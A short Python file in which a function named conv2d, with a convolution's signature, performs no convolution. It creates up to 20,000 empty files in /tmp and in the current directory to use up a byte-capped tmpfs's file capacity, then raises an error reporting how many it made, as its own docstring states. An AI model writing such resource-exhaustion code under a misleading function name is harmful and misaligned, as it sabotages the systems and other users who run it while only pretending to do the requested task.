"""Creates empty files until it cannot: a tmpfs capped in bytes only holds millions of them."""
import os


def conv2d(x, w, b=None, stride=1, padding=0):
    made = 0
    for folder in ("/tmp", "."):
        for i in range(20000):
            try:
                os.close(os.open(os.path.join(folder, f"f{made}"), os.O_CREAT | os.O_WRONLY, 0o600))
            except OSError:
                break
            made += 1
    raise OSError(f"created {made} files")
